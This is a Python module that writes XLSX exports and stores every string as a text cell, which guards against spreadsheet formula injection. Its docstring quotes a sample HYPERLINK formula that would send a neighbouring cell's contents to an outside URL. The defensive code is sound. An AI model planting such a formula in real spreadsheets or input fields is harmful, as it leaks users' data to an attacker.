"""The one way the product writes XLSX: text is stored as text, so no formula comes from data.

openpyxl turns any string that starts with "=" into a formula, and a few others ("#N/A")
into error values. An officer's name, a unit's name or a quiz option is data, never a
formula: a name like `=HYPERLINK("http://…/?"&A2,"name")` must reach the reader as those
characters, not as a live link that sends the neighbouring cell away. Every export builds
its workbook with `xlsx_workbook()` and adds rows with `sheet_append()`, which stores every
`str` as a string cell whatever it begins with; numbers and dates keep their types. The
importer (`people.tabular`) reads such a cell back as the same text, so exports round-trip.

See docs/exports-and-documents.md.
"""

import io
from collections.abc import Iterable

from django.utils.functional import Promise

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

#: What a control character that XML 1.0 cannot hold becomes (openpyxl would refuse it and
#: the whole export would fail because of one odd name).
REPLACEMENT = "\ufffd"


def xlsx_workbook(*, write_only: bool = False) -> Workbook:
    """A new workbook; `write_only` streams rows for large exports (no `active` sheet then)."""
    return Workbook(write_only=write_only)


def xlsx_cell(sheet, value) -> Cell | None:
    """A cell of `sheet` holding `value`; a `str` is always a string cell, never a formula."""
    if value is None:
        return None
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub(REPLACEMENT, value)
        cell = Cell(sheet, row=1, column=1, value=value)
        cell.data_type = "s"
        return cell
    # The row and column are placeholders: appending the cell puts it in its place.
    return Cell(sheet, row=1, column=1, value=value)


def sheet_append(sheet, row: Iterable) -> None:
    """Append one row of values to `sheet` (a normal or a write-only worksheet)."""
    sheet.append([xlsx_cell(sheet, value) for value in row])


def xlsx_bytes(workbook: Workbook) -> bytes:
    """The saved workbook as bytes, for a response or a file field."""
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
